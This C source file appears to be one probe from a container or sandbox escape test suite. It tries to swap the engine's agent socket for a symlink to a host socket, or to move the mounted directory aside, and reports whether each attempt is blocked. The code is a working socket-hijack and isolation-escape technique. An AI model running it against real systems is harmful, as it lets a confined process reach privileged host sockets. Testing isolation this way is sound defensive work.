// Puts something else where the engine looks for the agent's socket: a symbolic link to a socket of
// the host, in the directory itself or by exchanging the directory. argv: DIRECTORY HOST_SOCKET
#include "payload.h"

static void attack(int argc, char** argv) {
  const char* dir = need(argc, argv, 1);
  const char* target = need(argc, argv, 2);
  char name[4096], aside[4096];
  snprintf(name, sizeof name, "%s/agent.sock", dir);
  snprintf(aside, sizeof aside, "%s/agent.sock.aside", dir);
  if (access(name, F_OK)) inconclusive("%s: %s", name, strerror(errno));
  int error = 0;
  if (rename(name, aside) == 0 || unlink(name) == 0) {
    verdict(symlink(target, name), "the agent's socket is a link to the host's");
  }
  error = errno;
  if (symlink(target, aside) == 0 && rename(aside, name) == 0) succeeded("renamed a link over it");
  // Moving the mount point itself leaves a place for a directory of our own.
  snprintf(aside, sizeof aside, "%s.aside", dir);
  if (rename(dir, aside) == 0) succeeded("moved the directory %s away", dir);
  blocked(error == EBUSY ? EPERM : error);
}
